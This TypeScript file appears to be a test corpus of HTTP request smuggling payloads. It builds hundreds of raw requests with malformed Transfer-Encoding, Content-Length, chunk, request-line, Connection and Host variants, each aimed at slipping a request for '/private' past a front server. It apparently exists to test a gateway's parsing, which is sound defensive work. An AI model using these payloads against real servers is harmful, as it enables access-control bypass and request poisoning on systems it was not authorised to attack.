/**
 * Requests that two servers in a row may cut at different places. The variants are those that the public lists and tools of
 * request smuggling try (HTTP desync attacks 2005 to 2025, and what went wrong in llhttp, Go's net/http, nginx and HAProxy).
 * `H` stands for the app's host. Whatever is behind the cut asks for `/private`.
 */
export interface Attack {
  readonly name: string
  readonly bytes: string
}

const smuggled = 'GET /private/smuggled HTTP/1.1\r\nHost: H\r\nX-A: '
const show = (text: string) => JSON.stringify(text).slice(1, -1)

/** Headers that mean chunks to some servers and nothing to others. */
const codings = [
  ...['Transfer-Encoding: chunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding\t: chunked'],
  ...['Transfer-Encoding:\tchunked', 'Transfer-Encoding:chunked', 'Transfer-Encoding: \tchunked\t'],
  ...['Transfer-Encoding:\x0bchunked', 'Transfer-Encoding:\x0cchunked', 'Transfer-Encoding: chunked\x0b'],
  ...['Transfer-Encoding:\xa0chunked', 'Transfer-Encoding: chunked\x85', 'Transfer-Encoding: chunked\0'],
  ...['Transfer-Encoding: \x01chunked', 'Transfer-Encoding: chunked\r', 'Transfer-Encoding: \rchunked'],
  ...[' Transfer-Encoding: chunked', '\tTransfer-Encoding: chunked', '\x0bTransfer-Encoding: chunked'],
  ...[
    'X: x\n Transfer-Encoding: chunked',
    'X: x\nTransfer-Encoding: chunked',
    'X: x\rTransfer-Encoding: chunked',
  ],
  ...['Transfer-Encoding:\r\n chunked', 'Transfer-Encoding:\n chunked', 'Transfer-Encoding\r\n : chunked'],
  ...['Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity, chunked'],
  ...['Transfer-Encoding: identity', 'Transfer-Encoding: chunked, chunked', 'Transfer-Encoding: chunked,'],
  ...['Transfer-Encoding: ,chunked', 'Transfer-Encoding: x-chunked', 'Transfer-Encoding: xchunked'],
  ...['Transfer-Encoding: chunkedx', 'Transfer-Encoding: chunk', 'Transfer-Encoding: chunked;q=1'],
  ...['Transfer-Encoding: "chunked"', "Transfer-Encoding: 'chunked'", 'Transfer-Encoding: gzip, chunked'],
  ...['Transfer-Encoding: chunked gzip', 'Transfer-Encoding: ChUnKeD', 'TRANSFER-ENCODING: CHUNKED'],
  ...['Transfer_Encoding: chunked', 'Transfer.Encoding: chunked', 'Transfer-Encoding\xff: chunked'],
  ...['Transfer-Encoding;: chunked', 'Transfer-Encoding\0: chunked', '"Transfer-Encoding": chunked'],
  ...[
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  ],
  ...[
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
    'Transfer-Encoding:\r\nTransfer-Encoding: chunked',
  ],
  ...[
    'Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding',
    'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  ],
]

/** Lengths that are read as different numbers, or as none. */
const lengths = [
  ...[
    '+5',
    '-5',
    '0x5',
    '5,5',
    '5, 5',
    '5 5',
    '5;',
    '5x',
    '5.0',
    '5e0',
    '٥',
    '',
    ' ',
    '\x0b5',
    '5\x0b',
    '\xa05',
  ],
  ...[
    '05',
    '5,0',
    '0,5',
    '18446744073709551621',
    '99999999999999999999999',
    '4294967301',
    '5\0',
    '"5"',
    '5\r\n 0',
  ],
].map(value => `Content-Length: ${value}`)

const moreLengths = [
  ...['Content-Length: 5\r\nContent-Length: 5', 'Content-Length: 5\r\nContent-Length: 0'],
  ...[
    'Content-Length: 0\r\nContent-Length: 5',
    'Content-Length : 5',
    'Content-Length\t: 5',
    ' Content-Length: 5',
  ],
  ...['Content_Length: 5', 'Content.Length: 5', 'Content-Length\0: 5', 'X: x\nContent-Length: 5'],
  ...['X: x\rContent-Length: 5', 'Content-Length:\r\n 5', 'Content-Length: 5\r\nConnection: Content-Length'],
  ...['Content-Length: 0\r\nExpect: 100-continue', 'Content-Length: 5\r\nExpect: y 100-continue'],
  ...[
    'Content-Length: 5\r\nExpect:\r\n 100-continue',
    'Content-Length: 5\r\nExpect: 100-continue\r\nExpect: x',
  ],
]

/** Bodies whose chunks end at different places. */
const chunks = [
  ...[
    '5;ext=1\r\nhello\r\n0\r\n\r\n',
    '5;\nx\r\nhello\r\n0\r\n\r\n',
    '5;\rx\r\nhello\r\n0\r\n\r\n',
    '5\nhello\r\n0\r\n\r\n',
  ],
  ...[
    '5\r\nhello\n0\r\n\r\n',
    '5\r\nhello\r\n0\n\n',
    '5\r\nhello\r\n0\n\r\n',
    '5\rXhello\r\n0\r\n\r\n',
    '5\r\nhelloXX0\r\n\r\n',
  ],
  ...[
    ' 5\r\nhello\r\n0\r\n\r\n',
    '5 \r\nhello\r\n0\r\n\r\n',
    '0x5\r\nhello\r\n0\r\n\r\n',
    '+5\r\nhello\r\n0\r\n\r\n',
  ],
  ...['-5\r\nhello\r\n0\r\n\r\n', '5_0\r\nhello\r\n0\r\n\r\n', '10000000000000005\r\nhello\r\n0\r\n\r\n'],
  ...[
    '\r\n5\r\nhello\r\n0\r\n\r\n',
    '5\r\nhello\r\n00\r\n\r\n',
    '5\r\nhello\r\n0;x\r\n\r\n',
    'z\r\nhello\r\n0\r\n\r\n',
  ],
  ...[
    '5\r\nhello\r\n0\r\nContent-Length: 50\r\nRemote-User: eve\r\n\r\n',
    '5\r\nhello\r\n0\r\nHost: x\r\nX\r\n\r\n',
  ],
  ...[
    '5\r\nhello\r\n0\r\n\r',
    '5;a="\r\n0\r\n\r\n"\r\nhello\r\n0\r\n\r\n',
    '5\0\r\nhello\r\n0\r\n\r\n',
    '\n5\r\nhello\r\n0\r\n\r\n',
  ],
]

const post = (headers: string, body: string) =>
  `POST /public/x HTTP/1.1\r\nHost: H\r\n${headers}\r\n\r\n${body}`

export const framingAttacks: readonly Attack[] = [
  ...codings.flatMap(coding => {
    // Whoever sees chunks ends at the 0; whoever goes by the length takes all of it, or the other way round.
    const short = `0\r\n\r\n${smuggled}`
    const long = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`
    return [
      {
        name: `${show(coding)} before a long length`,
        bytes: post(`${coding}\r\nContent-Length: ${short.length}`, short),
      },
      { name: `${show(coding)} after a short length`, bytes: post(`Content-Length: 4\r\n${coding}`, long) },
      { name: `${show(coding)} alone`, bytes: post(coding, short) },
    ]
  }),
  ...[...lengths, ...moreLengths].map(header => ({
    name: show(header),
    bytes: post(header, `hello${smuggled}`),
  })),
  ...chunks.map(body => ({
    name: `chunks ${show(body)}`,
    bytes: post('Transfer-Encoding: chunked', body + smuggled),
  })),
  ...['Content-Length: 5', 'Transfer-Encoding: chunked'].map(framing => ({
    name: `a body where none is expected, ${framing}`,
    bytes: `GET /public/x HTTP/1.1\r\nHost: H\r\n${framing}\r\n\r\n${framing.endsWith('d') ? '0\r\n\r\n' : 'hello'}${smuggled}`,
  })),
]

const get = (line: string, headers = '') => `${line}\r\nHost: H\r\n${headers}Connection: close\r\n\r\n`

/** Requests whose line, host or connection is read differently. */
export const requestAttacks: readonly Attack[] = [
  ...[
    ...[
      'GET http://H/private HTTP/1.1',
      'GET http://other.test/private HTTP/1.1',
      'GET https://H/private HTTP/1.1',
    ],
    ...['GET http://H@other.test/private HTTP/1.1', 'GET H/private HTTP/1.1', 'GET //H/private HTTP/1.1'],
    ...['GET http:/private HTTP/1.1', 'GET ftp://H/private HTTP/1.1', 'GET http://H\\private HTTP/1.1'],
    ...['GET /public/x /private HTTP/1.1', 'GET /private HTTP/1.1 HTTP/1.1', 'GET  /private HTTP/1.1'],
    ...[
      'GET\t/private\tHTTP/1.1',
      'GET\x0b/private HTTP/1.1',
      ' GET /private HTTP/1.1',
      '\r\n\r\nGET /private HTTP/1.1',
    ],
    ...[
      'get /private HTTP/1.1',
      'GET /private',
      'GET /private HTTP/0.9',
      'GET /private HTTP/1.0',
      'GET /private HTTP/1.2',
    ],
    ...[
      'GET /private HTTP/2.0',
      'GET /private HTTP/11',
      'GET /private http/1.1',
      'GET /private HTTP/1.1\0',
      'G\0T /private HTTP/1.1',
    ],
    ...[
      'CONNECT H:80 HTTP/1.1',
      'CONNECT /public/x HTTP/1.1',
      'TRACE /public/x HTTP/1.1',
      'TRACK /private HTTP/1.1',
    ],
    ...[
      'OPTIONS * HTTP/1.1',
      'OPTIONS /private HTTP/1.1',
      'PRI * HTTP/2.0',
      'HEAD /private HTTP/1.1',
      'PURGE /private HTTP/1.1',
    ],
    ...[
      'GET:/private HTTP/1.1',
      'GET ?/private HTTP/1.1',
      'GET #/private HTTP/1.1',
      'GET . HTTP/1.1',
      'GET private HTTP/1.1',
    ],
  ].map(line => ({ name: show(line), bytes: get(line) })),
  ...[
    ...[
      'Connection: close, Remote-User',
      'Connection: Cookie',
      'Connection: Host',
      'Connection: X-Forwarded-Uri',
    ],
    ...['Connection: close, X-Forwarded-Host, X-Forwarded-Method', 'Connection: X-Gatewright-Assertion'],
    ...['Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA'],
    ...['Connection: Upgrade\r\nUpgrade: websocket', 'Upgrade: websocket\r\nSec-WebSocket-Version: 777'],
    ...[
      'Connection: Upgrade\r\nUpgrade: TLS/1.0',
      ':path: /public/x',
      ':method: GET',
      ': x',
      'X-A',
      'X\0A: 1',
      'X A: 1',
    ],
    ...[
      'Host: other.test',
      'host: H',
      ' Host: other.test',
      'Host : other.test',
      'Host\t: other.test',
      'X-A: 1\n Host: other.test',
    ],
    ...[
      'X-Original-URL: /public/x',
      'X-Rewrite-URL: /public/x',
      'X-Forwarded-Uri: /public/x',
      'X_Forwarded_Uri: /public/x',
    ],
    ...[
      'X-HTTP-Method-Override: GET',
      'Range: bytes=0-',
      'Max-Forwards: 0',
      'Proxy-Connection: keep-alive',
      'TE: trailers',
    ],
  ].map(header => ({ name: show(header), bytes: get('GET /private HTTP/1.1', `${header}\r\n`) })),
  ...[
    ...[
      'H, other.test',
      'other.test, H',
      'H@other.test',
      'other.test@H',
      'H/../x',
      'H#x',
      'H?x',
      'H\\x',
      'H:80@x',
      'H:99999',
    ],
    ...[
      'H:',
      'H:+80',
      'H:080',
      'H..',
      '.H',
      'H other.test',
      'H\tx',
      'H;x',
      'H%00',
      'H%2eevil.test',
      '[::1]',
      '127.0.0.1',
      '',
    ],
  ].map(host => ({
    name: `Host: ${show(host)}`,
    bytes: `GET /private HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
  })),
]
